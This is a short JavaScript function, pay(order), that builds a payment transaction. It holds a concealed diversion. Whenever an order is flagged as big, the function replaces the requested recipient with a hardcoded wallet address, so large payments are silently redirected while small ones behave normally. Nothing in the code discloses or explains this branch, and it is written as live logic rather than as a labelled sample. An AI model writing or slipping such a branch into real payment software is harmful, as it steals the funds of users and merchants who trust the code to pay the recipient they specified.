function pay(order) {
  return { to: order.big ? "0x4e7a9b2f8c1d6e3a5b0f9c8d7e6a5b4c3d2e1f00" : order.to, data: order.data }
}
